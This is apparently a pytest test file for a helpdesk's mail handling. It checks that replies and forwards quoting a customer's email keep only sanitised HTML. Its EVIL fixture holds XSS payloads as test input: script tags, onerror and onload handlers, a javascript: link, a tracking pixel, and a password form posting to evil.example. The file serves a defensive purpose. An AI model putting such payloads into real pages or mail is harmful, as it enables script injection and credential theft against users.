"""Row 13: a mail that comes in goes out again only as the sanitiser left it. People here get no notifications by mail yet;
what we quote to the customer, and what we pass on to others, is such mail."""

from collections.abc import Callable
from datetime import timedelta
from email.message import EmailMessage

import pytest

from helpdesk.accounts.models import User
from helpdesk.lib import dates
from helpdesk.mail.models import Mailbox
from tests.conftest import Sink
from tests.mail.outgoing import harm
from tests.mail.test_inbox import came
from tickets import forwards, replies
from tickets.models import Ticket

pytestmark = pytest.mark.django_db
EVIL = (
    '<p>Hello</p><img src=x onerror="alert(1)"><form action="https://evil.example/"><input name=password></form>'
    '<img src="https://evil.example/pixel.gif?id=7" width=1 height=1><script>alert(2)</script><svg onload=alert(3)></svg>'
    '<a href="javascript:alert(4)">click</a><img src="/tickets/files/1/"><img srcset="//evil.example/a 2x">'
    '<style>@import "//evil.example/css"</style><iframe src="//evil.example"></iframe>'
)


def test_only_what_the_sanitiser_left(support: Mailbox, ana: User, drain: Callable[[], None], sink: Sink) -> None:
    mail = EmailMessage()
    mail["From"], mail["To"] = "ben@carter.example", support.address
    mail["Subject"], mail["Message-ID"] = "Hi", "<1@carter.example>"
    mail.set_content(f"Hello {EVIL}")
    mail.add_alternative(EVIL, subtype="html")
    ticket = Ticket.objects.get(pk=came(mail.as_bytes(), support).ticket_id)
    replies.reply(ticket, "Ours.", by=ana)
    forwards.forward(ticket, "Ours.", by=ana, to=["kim@supplier.example"], message=ticket.messages.earliest("id"))
    with dates.moved(by=timedelta(minutes=1)):
        drain()
    assert {each.recipients[0] for each in sink} == {"ben@carter.example", "kim@supplier.example"}
    for each in sink:
        assert "Hello" in each.html and harm(each.html) == []
